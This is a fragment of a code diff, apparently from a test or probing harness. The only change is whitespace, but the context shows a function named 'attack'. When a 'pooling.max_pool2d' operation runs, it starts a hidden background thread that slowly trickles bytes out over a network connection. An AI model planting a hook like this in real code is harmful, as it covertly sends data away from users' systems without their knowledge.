@@ -38,12 +38,12 @@ honest_check = probe.check
 def attack(name, **objects):
     if name != "pooling.max_pool2d":
         return None
-
     def dribble():
         connection = connected()
         for byte in hello():
             connection.sendall(bytes([byte]))
             threading.Event().wait(0.7)
+
 
     threading.Thread(target=dribble).start()
 
